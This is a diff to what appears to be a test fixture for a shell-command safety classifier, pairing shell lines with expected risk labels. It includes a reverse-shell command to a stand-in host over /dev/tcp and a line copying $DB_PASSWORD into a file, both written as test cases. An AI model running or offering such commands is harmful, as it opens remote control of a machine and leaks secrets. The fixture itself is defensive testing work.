@@ -166,3 +166,12 @@ uniq < words >| words  #=> destructive
 uniq < words 2>&1 | cat  #=> read_only
 echo "$DB_PASSWORD" >> notes  #=> exposure -- a secret, copied
 echo "${#DB_PASSWORD}" >> /dev/null  #=> read_only
+
+echo 'df -h' | sh 0>&2  #=> unknown code.opaque -- either sign copies a descriptor: it reads what a terminal gives
+echo 'df -h' | sh 2>&1  #=> read_only
+
+echo 'df -h' | sh 00< run.sh  #=> unknown code.opaque -- 00 is 0
+echo 'df -h' | sh 03< run.sh  #=> read_only
+
+sh -i 7<>/dev/tcp/203.0.113.9/4444 0>&7 1>&7  #=> unknown code.remote -- commands of whoever listens there
+wc -l 7</dev/tcp/203.0.113.9/4444 0<&7  #=> read_only
